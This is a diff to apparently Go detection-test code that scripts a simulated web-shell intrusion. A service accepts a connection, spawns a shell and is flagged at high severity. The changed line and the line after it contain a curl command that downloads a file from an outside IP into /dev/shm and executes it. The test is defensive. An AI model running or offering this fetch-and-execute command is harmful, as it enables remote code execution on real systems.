@@ -76,7 +76,7 @@ func scriptWebShell() *tape {
 	t.net(event.NetListen, "service", "0.0.0.0:8080", "0.0.0.0:0")
 	t.wait(4000)
 	t.net(event.NetAccept, "service", "10.1.2.3:8080", "203.0.113.9:51000")
-	t.detect(t.start("sh", "service", 101, "/usr/bin/dash", "sh -s"), "service started a shell", detection.High)
+	t.detect(t.start("sh", "service", 101, "/usr/bin/dash", "sh -c curl -so /dev/shm/k http://203.0.113.9/k; sh /dev/shm/k"), "service started a shell", detection.High)
 	t.start("curl", "sh", 102, "/usr/bin/curl", "curl -so /dev/shm/k http://203.0.113.9/k")
 	t.connect("curl", "203.0.113.9:80")
 	t.write("curl", "/dev/shm/k", "77")
